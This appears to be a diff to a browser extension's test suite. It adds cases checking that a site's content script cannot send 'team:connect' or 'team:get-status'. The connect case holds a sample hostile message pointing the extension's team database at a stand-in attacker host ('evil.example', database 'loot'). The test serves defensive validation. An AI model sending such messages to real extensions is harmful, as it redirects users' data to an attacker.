@@ -467,6 +467,9 @@ describe('messages', () => {
       { type: 'panel:get-tab-state', tabId: 1 },
       { type: 'bg:tab-state-changed', tabId: 1 },
       { type: 'panel:erase-all' },
+      // the team book: a site's content script may neither point the book at a server nor read its status
+      { type: 'team:connect', config: { url: 'https://evil.example', database: 'loot', user: 'x', password: '' } },
+      { type: 'team:get-status' },
     ];
     const answers: string[] = [];
     for (const a of asks) {
@@ -485,6 +488,8 @@ describe('messages', () => {
       'dropped: content-script may not send bg:tab-state-changed',
       'dropped: content-script may not send panel:get-tab-state',
       'dropped: content-script may not send panel:get-tab-state',
+      'dropped: content-script may not send team:connect',
+      'dropped: content-script may not send team:get-status',
       'dropped: malformed message "panel:erase-all"',
     ]);
     // control: the same world may send what a content script sends (a read of its own page)
